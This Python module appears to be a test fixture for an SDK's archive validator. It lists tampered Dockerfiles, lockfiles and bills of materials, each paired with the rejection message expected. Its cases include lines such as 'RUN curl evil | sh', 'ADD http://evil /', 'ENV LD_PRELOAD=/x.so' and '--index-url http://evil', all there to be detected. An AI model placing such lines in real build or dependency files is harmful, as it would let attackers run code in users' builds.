"""Archives whose image, lockfile or bill of materials is not what this SDK makes."""

from __future__ import annotations

from forging import added, bundled, changed, forged, manifest, replaced
from tampering import Hostile

from konfuzio_sdk.opening.limits import Limits

__all__ = ["HOSTILE_DEPENDENCIES"]

_DOCKERFILE = "env/docker/Dockerfile"
_LOCK = "src/requirements.txt"

_IMAGE = [
    Hostile(
        "injected RUN",
        changed(
            lambda valid: valid.replace(_DOCKERFILE, "USER bentoml", "RUN curl evil | sh\n\nUSER bentoml"), "digests"
        ),
        "'RUN curl evil | sh'",
    ),
    Hostile(
        "injected after a step",
        changed(lambda valid: valid.replace(_DOCKERFILE, "-R\nWORKDIR", "-R && curl evil\nWORKDIR"), "digests"),
        "-R && curl evil'",
    ),
    Hostile(
        "continued over an empty line",
        changed(lambda valid: valid.replace(_DOCKERFILE, "\nENV LANG", "\nENV LANG=x \\\n\nENV LANG"), "digests"),
        "'ENV LANG=x ENV LANG=C.UTF-8'",
    ),
    Hostile(
        "step hidden behind a backslash",
        changed(lambda valid: valid.replace(_DOCKERFILE, "\nWORKDIR", " \\\n\n&& curl evil\nWORKDIR"), "digests"),
        "-R && curl evil'",
    ),
    Hostile(
        "two words made one",
        changed(lambda valid: valid.replace(_DOCKERFILE, "mkdir $BENTO_PATH", "mkdir\\\n$BENTO_PATH"), "digests"),
        "'RUN mkdir$BENTO_PATH && chown",
    ),
    Hostile(
        "backslash that does not continue",
        changed(lambda valid: valid.replace(_DOCKERFILE, "\nENV LANG", "\nRUN a\\\\\nENV LANG"), "digests"),
        "'RUN a\\\\\\\\'",
    ),
    Hostile(
        "more spaces",
        changed(lambda valid: valid.replace(_DOCKERFILE, "mkdir $BENTO_PATH", "mkdir  $BENTO_PATH"), "digests"),
        "'RUN mkdir  $BENTO_PATH",
    ),
    Hostile(
        "injected ENV",
        changed(lambda valid: valid.replace(_DOCKERFILE, "ENV LANG", "ENV LD_PRELOAD=/x.so\nENV LANG"), "digests"),
        "'ENV LD_PRELOAD=/x.so'",
    ),
    Hostile(
        "injected ADD",
        changed(lambda valid: valid.add(_DOCKERFILE, "ADD http://evil /\n"), "digests"),
        "steps, and BentoML makes",
    ),
    Hostile(
        "another frontend",
        changed(
            lambda valid: valid.files.update({_DOCKERFILE: b"# syntax=evil/frontend\n" + valid.files[_DOCKERFILE]}),
            "digests",
        ),
        "'# syntax=evil/frontend'",
    ),
    Hostile(
        "injected command",
        changed(lambda valid: valid.replace("bento.yaml", "  commands: []", "  commands: [curl evil]"), "digests"),
        "the image's 'commands' is not what this SDK has made: ['curl evil']",
    ),
    Hostile(
        "another base image",
        changed(
            lambda valid: valid.replace("bento.yaml", "base_image: python:", "base_image: evil/python:"), "digests"
        ),
        "the image's 'base_image' is not what this SDK has made",
    ),
    Hostile(
        "scripts",
        changed(lambda valid: valid.replace("bento.yaml", "\nimage:\n", "\nimage:\n  scripts: {a: b}\n"), "digests"),
        "the image has the key 'scripts'",
    ),
    Hostile(
        "entrypoint",
        added("env/docker/entrypoint.sh", "curl evil\n", "digests"),
        "the script is none that BentoML writes",
    ),
]
_LOCKFILE = [
    Hostile(
        "lockfile beyond a limit that was given",
        added(_LOCK, "\n" * 200_000),
        "src/requirements.txt: the file is larger than 200000 bytes",
        Limits(described=200_000),
    ),
    Hostile("index", added(_LOCK, "--index-url http://evil\n"), "it has an option, and may have requirements alone"),
    Hostile(
        "index behind a comment",
        added(_LOCK, f"# made by uv \\\n--index-url http://evil\n# more \\\nevil==1 --hash=sha256:{'0' * 64}\n"),
        "it has a comment, and installers do not agree where one ends: '# made by uv",
    ),
    Hostile(
        "comment alone",
        added(_LOCK, "# made by uv\n"),
        "installers do not agree where one ends: '# made by uv'",
    ),
    Hostile(
        "continued without a space",
        added(_LOCK, f"evil==1 \\\n--hash=sha256:{'0' * 64}\n"),
        "pinned to an exact version by ==: 'evil==1 \\\\'",
    ),
    Hostile(
        "line that ends for some installers",
        added(_LOCK, f"evil==1 --hash=sha256:{'0' * 64}\f--index-url=http://evil\n"),
        "something else than digests after a requirement",
    ),
    Hostile(
        "option in a marker",
        added(_LOCK, f"evil==1 ; sys_platform == 'x' --pre --hash=sha256:{'0' * 64}\n"),
        'pinned to an exact version by ==: "evil==1 ; sys_platform',
    ),
    Hostile("empty line", added(_LOCK, "\n"), "pinned to an exact version by ==: ''"),
    Hostile(
        "another wheel by its file",
        added(_LOCK, f"./wheels/evil-1-py3-none-any.whl --hash=sha256:{'0' * 64}\n"),
        "it names other wheels by their files than the SDK's own, once",
    ),
    Hostile(
        "second wheel of the SDK",
        added("src/wheels/konfuzio_sdk-9-py3-none-any.whl", "x"),
        "'src/wheels/konfuzio_sdk-9-py3-none-any.whl': the lockfile does not name this wheel",
    ),
    Hostile("unhashed", added(_LOCK, "evil==1\n"), "it has a requirement without a digest: 'evil==1'"),
    Hostile("unpinned", added(_LOCK, "evil>=1\n"), "pinned to an exact version by ==: 'evil>=1'"),
    Hostile("address", added(_LOCK, "evil @ http://evil/x.whl\n"), "pinned to an exact version by ==: 'evil @"),
    Hostile("editable", added(_LOCK, "-e ./x\n"), "requirements alone: '-e ./x'"),
    Hostile(
        "option after a requirement",
        added(_LOCK, f"evil==1 --hash=sha256:{'0' * 64} --index-url=http://evil\n"),
        "something else than digests after a requirement",
    ),
    Hostile(
        "another file of requirements",
        added("env/python/requirements.txt", "evil==1\n", "digests"),
        "it has BentoML install something besides the lockfile",
    ),
    Hostile(
        "wheels that nobody told of", added("src/wheelhouse/evil-1-py3-none-any.whl", "x"), "dependencies are not in"
    ),
    Hostile(
        "wheel that is not locked",
        changed(
            lambda valid: valid.change_manifest(lambda said: said.update(bundled=True)).add(
                "src/wheelhouse/evil-1-py3-none-any.whl", "x"
            ),
            "everything",
        ),
        "no lockfile names this wheel",
    ),
    Hostile("uv that nobody locked", bundled("uv-9-py3-none-any.whl"), "no lockfile names this wheel"),
    Hostile(
        "uv of another version",
        bundled("uv-9-py3-none-any.whl", "uv==9", "uv==8"),
        "it names something else than one version of uv",
    ),
    Hostile(
        "another installer", bundled("pip-9-py3-none-any.whl", "pip==9"), "it names something else than one version"
    ),
    Hostile(
        "installer from an index",
        bundled("uv-9-py3-none-any.whl", "uv==9", tail="--index-url http://evil\n"),
        "src/installers.txt: it has an option",
    ),
    Hostile(
        "installers without wheels",
        added("src/installers.txt", f"uv==9 --hash=sha256:{'0' * 64}\n"),
        "it belongs to an archive that brings its wheels",
    ),
    Hostile("wheels missing", manifest(lambda said: said.update(bundled=True)), "dependencies are in the archive"),
    Hostile("another Python", added("src/python-version.txt", "3.10.0\n"), "it is not the manifest's Python"),
    Hostile(
        "another wheel",
        changed(
            lambda valid: valid.add(next(name for name in valid.files if name.endswith(".whl")), "x"), "everything"
        ),
        "the digest of the SDK's wheel is not that of the file",
    ),
]
_MATERIALS = [
    Hostile(
        "package that nobody is told of",
        added(_LOCK, f"evil-package==6.6.6 --hash=sha256:{'0' * 64}\n"),
        "the archive installs 'evil-package' '6.6.6', other than it says",
    ),
    Hostile(
        "package of another name",
        forged(_LOCK, "aiohttp==", "aiohttp-evil=="),
        "the archive does not install 'aiohttp'",
    ),
    Hostile("empty bill of materials", replaced("src/sbom.cdx.json", "{}"), "other than it says"),
    Hostile(
        "licences that are none",
        replaced("src/licenses.json", "no json"),
        "it is not of the packages that the archive",
    ),
]
HOSTILE_DEPENDENCIES = [*_IMAGE, *_LOCKFILE, *_MATERIALS]
